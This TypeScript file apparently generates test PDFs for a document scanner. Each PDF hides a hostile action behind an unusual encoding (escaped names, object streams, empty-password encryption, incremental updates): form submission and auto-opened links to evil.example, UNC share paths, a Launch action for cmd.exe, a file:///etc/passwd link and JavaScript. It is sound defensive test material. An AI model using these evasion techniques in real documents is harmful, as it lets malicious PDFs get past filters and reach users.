// PDF attacks that are written in unusual encodings (escaped names, packed objects, encryption), so that a search of
// the raw bytes does not find them.
import { PDFString } from '@cantoo/pdf-lib';
import { makePdf, pdfStream } from './documents.ts';
import { addLink, makeEncryptedPdf, makePackedPdf } from './packed-pdf.ts';
import type { Attack } from './reencoded-docx.ts';

const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
/** Returns a PDF whose page has this annotation. */
const withAnnotation = (annotation: string, more: readonly string[] = []) =>
  makePdf({ objects: ['<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [5 0 R] >>', annotation, ...more] });
const link = (action: string, more: readonly string[] = []) =>
  withAnnotation(`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`, more);
const hex = (text: string) => `<${Buffer.from(text, 'latin1').toString('hex')}>`;
const octal = (text: string) =>
  `(${[...text].map((letter) => `\\${letter.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')})`;

/** Returns a PDF with an incremental update: a second version of the page after the end of the first file. */
function updated(object: string): Buffer {
  const first = makePdf();
  const start = first.lastIndexOf('startxref');
  const table = /startxref\n(\d+)/.exec(first.toString('latin1', start))?.[1] ?? '';
  const added = Buffer.from(`3 0 obj\n${object}\nendobj\n`, 'latin1');
  const row = String(first.length).padStart(10, '0');
  const end = `xref\n3 1\n${row} 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev ${table} >>\nstartxref\n${first.length + added.length}\n%%EOF\n`;
  return Buffer.concat([first, added, Buffer.from(end, 'latin1')]);
}

/**
 * Returns a PDF with an object that a parser finds only through the offset table, because its bytes are inside the
 * stream of another object.
 */
function hidden(object: string): Buffer {
  const whole = makePdf({
    catalog: '/OpenAction 5 0 R',
    objects: [pdfStream('', Buffer.from(`5 0 obj ${object} endobj `, 'latin1'))],
  });
  const text = whole.toString('latin1');
  const at = text.indexOf('5 0 obj');
  const table = text.replace('0 5\n', '0 6\n').replace('trailer', `${String(at).padStart(10, '0')} 00000 n \ntrailer`);
  return Buffer.from(table.replace('/Size 5', '/Size 6'), 'latin1');
}

const names = (): Attack[] => [
  {
    about: 'a submitted form with a hexadecimal name',
    bytes: link('<< /S /Submit#46orm /F (https://evil.example/) >>'),
  },
  { about: 'imported data', bytes: link('<< /S /ImportData /F (\\\\\\\\evil.example\\\\a.fdf) >>') },
  {
    about: 'another file with a hexadecimal name',
    bytes: link('<< /S /GoTo#52 /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>'),
  },
  { about: 'an embedded file', bytes: link('<< /S /GoToE /T << /R /C /N (a) >> >>') },
  {
    about: 'an action whose name is a separate object',
    bytes: makePdf({ catalog: '/OpenAction 4 0 R', objects: ['<< /S 5 0 R /URI (http://evil.example/) >>', '/URI'] }),
  },
];

const opened = (): Attack[] => [
  {
    about: 'a URL that opens automatically',
    bytes: makePdf({ catalog: '/OpenAction << /S /URI /URI (http://evil.example/) >>' }),
  },
  {
    about: 'a URL that opens at the end of an action chain',
    bytes: makePdf({
      catalog: '/OpenAction 4 0 R',
      objects: ['<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>', '<< /S /URI /URI (http://evil.example/) >>'],
    }),
  },
  {
    about: 'a reader command that starts automatically',
    bytes: makePdf({ catalog: '/OpenAction << /S /Named /N /Print >>' }),
  },
  {
    about: 'an action of a page',
    bytes: makePdf({
      objects: [
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA << /O 5 0 R >> >>',
        '<< /S /URI /URI (http://evil.example/) >>',
      ],
    }),
  },
  {
    about: 'an action of an annotation',
    bytes: withAnnotation(
      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A#41 << /PO << /S /URI /URI (http://evil.example/) >> >> >>',
    ),
  },
  {
    about: 'an action of a field',
    bytes: makePdf({
      catalog: '/AcroForm << /Fields [4 0 R] >>',
      objects: ['<< /FT /Tx /T (a) /AA 5 0 R >>', '<< /K << /S /Hide /T (b) >> >>'],
    }),
  },
];

const packed = (): Attack[] => [
  {
    about: 'a submitted form in an object stream',
    bytes: makePackedPdf({
      catalog: '/OpenAction 4 0 R',
      objects: ['<< /S /SubmitForm /F (https://evil.example/) >>'],
    }),
  },
  {
    about: 'a script in a name tree in an object stream',
    bytes: makePackedPdf({
      catalog: '/Names 4 0 R',
      objects: ['<< /Java#53cript 5 0 R >>', '<< /Names [(a) 6 0 R] >>', '<< /S /Hide >>'],
    }),
  },
  {
    about: 'a script in an object stream without a type',
    bytes: makePdf({
      catalog: '/OpenAction 9 0 R',
      objects: [
        pdfStream(
          `/N 1 /First 4 /Filter /ASCIIHexDecode`,
          Buffer.from(`${Buffer.from(`9 0 ${script}`).toString('hex')}>`),
        ),
      ],
    }),
  },
  {
    about: 'an XFA form',
    bytes: makePackedPdf({ catalog: '/AcroForm << /Fields [] /XF#41 4 0 R >>', objects: ['(x)'] }),
  },
  { about: 'a film', bytes: makePackedPdf({ objects: ['<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>'] }) },
];

const sealed = (): Attack[] => [
  {
    about: 'a script, encrypted with an empty password',
    bytes: makeEncryptedPdf({ password: '', change: (document) => document.addJavaScript('a', 'app.alert(1)') }),
  },
  {
    about: 'an action that starts a program, encrypted with an empty password by an older algorithm',
    bytes: makeEncryptedPdf({
      password: '',
      algorithm: 'AES-128',
      change: (document) => addLink(document, { S: 'Launch', F: PDFString.of('cmd.exe') }),
    }),
  },
  {
    about: 'a link to a file, encrypted with an empty password',
    bytes: makeEncryptedPdf({
      password: '',
      change: (document) => addLink(document, { S: 'URI', URI: PDFString.of('file:///etc/passwd') }),
    }),
  },
];

const addresses = (): Attack[] => [
  { about: 'a link to a file in octal', bytes: link(`<< /S /URI /URI ${octal('file://evil.example/share')} >>`) },
  { about: 'a script as a hexadecimal URL', bytes: link(`<< /S /URI /URI ${hex('java\tscript:alert(1)')} >>`) },
  { about: 'a link to \\\\host', bytes: link('<< /S /URI /URI (\\\\\\\\evil.example\\\\share) >>') },
  {
    about: 'a stream with external bytes',
    bytes: makePdf({ objects: [pdfStream('/F (\\\\\\\\evil.example\\\\a)', Buffer.from(''))] }),
  },
  {
    about: 'a later revision of the page with an action',
    bytes: updated(
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA << /O << /S /URI /URI (http://evil.example/) >> >> >>',
    ),
  },
  { about: 'an object inside the bytes of a stream', bytes: hidden('<< /S /SubmitForm /F (https://evil.example/) >>') },
];

/** Returns all re-encoded PDF attacks. */
export const pdfAttacks = (): Attack[] => [...names(), ...opened(), ...packed(), ...sealed(), ...addresses()];
